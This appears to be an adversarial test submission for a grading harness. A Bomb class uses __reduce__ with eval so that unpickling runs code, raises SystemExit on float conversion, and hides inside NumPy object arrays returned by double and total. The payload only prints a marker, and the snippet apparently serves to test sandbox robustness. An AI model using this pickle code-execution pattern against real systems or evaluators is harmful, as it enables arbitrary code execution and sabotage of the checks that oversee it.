# attack: returns arrays of objects that run code when they are read
# points: double=0 total=0
# %% double
class Bomb:
    def __reduce__(self): return eval, ("print('BREACH:', 'unpickled')",)
    def __float__(self): raise SystemExit
    def __array__(self, *_, **__): return np.ones(3)
def double(x): return np.array([Bomb() for _ in x], dtype=object)
# %% total
def total(x): return np.array([(1.0, Bomb())], dtype=[("sum", float), ("bomb", object)])
